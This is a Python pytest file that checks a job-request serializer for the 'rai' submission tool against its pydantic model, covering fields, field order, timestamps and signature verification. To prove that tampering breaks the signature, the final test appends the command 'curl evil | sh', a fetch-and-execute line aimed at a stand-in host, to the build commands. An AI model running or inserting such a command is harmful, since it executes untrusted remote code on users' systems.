"""The job request `rai submit` writes without pydantic (rai/domain/wire.py) is the one JobRequest writes: every
field, the same values read back, a signature the model verifies (raid and rai-server verify it so)."""

from __future__ import annotations

import json
from datetime import datetime, timezone

import pytest

from rai.domain.models import JobRequest
from rai.domain.signing import sign, verify
from rai.domain.wire import job_request_json

SECRET = "s3cret-key"
SPEC = {"rai": {"version": "0.2", "image": "img:1"}, "resources": {"cpu": {"architecture": "amd64"}},
        "commands": {"build_image": None, "build": ["make", "./run ü"]}}


@pytest.mark.parametrize("team,submission,moment", [
    (None, None, datetime(2026, 12, 3, 10, 57, 59, 43937, tzinfo=timezone.utc)),
    ("blue", "final", datetime(2026, 12, 3, 10, 57, 59, tzinfo=timezone.utc)),  # a whole second: no fraction
    ("t", "m1", datetime(2026, 1, 2, 3, 4, 5, 600000).astimezone()),  # a local time, written as UTC
])
def test_the_written_request_is_the_models(team, submission, moment):
    fields = dict(job_id="j-1", access_key="AK", username="ada", team=team, queue="rai_amd64", spec=SPEC,
                  upload_key="uploads/ada/j-1.tar.zst", upload_sha256="ab" * 32, upload_size=1234,
                  submission=submission, client_version="0.1.0")
    written = job_request_json(**fields, secret_key=SECRET, submitted_at=moment)
    model = JobRequest(**fields, submitted_at=moment)
    sign(model, SECRET)
    assert json.loads(written) == json.loads(model.to_json())
    assert list(json.loads(written)) == list(JobRequest.model_fields)  # every field, in the model's order
    read = JobRequest.from_json(written)
    assert verify(read, SECRET) and read.submitted_at == moment
    read.spec["commands"]["build"].append("curl evil | sh")
    assert not verify(read, SECRET)  # the signature covers the spec
